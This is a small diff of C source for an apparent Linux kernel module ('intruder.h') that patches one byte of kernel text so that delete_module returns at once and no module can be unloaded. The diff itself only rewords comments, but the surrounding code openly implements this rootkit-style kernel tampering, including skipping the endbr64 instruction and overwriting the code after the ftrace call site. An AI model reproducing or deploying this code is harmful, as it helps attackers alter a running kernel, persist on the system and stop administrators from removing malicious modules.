@@ -1,4 +1,4 @@
-/* One byte of kernel text: delete_module returns at once, no module is unloaded any more. */
+/* Patches one byte of kernel text: delete_module returns at once, so no module can be unloaded. */
 #include "intruder.h"
 
 static int __init begin(void) {
@@ -10,7 +10,7 @@ static int __init begin(void) {
     if (!memcmp((void *)function, endbr64, sizeof endbr64)) {
         function += sizeof endbr64;
     }
-    /* Behind the call that ftrace replaces */
+    /* After the call that ftrace replaces */
     return overwrite(function + 5, &ret, sizeof ret);
 }
 module_init(begin);
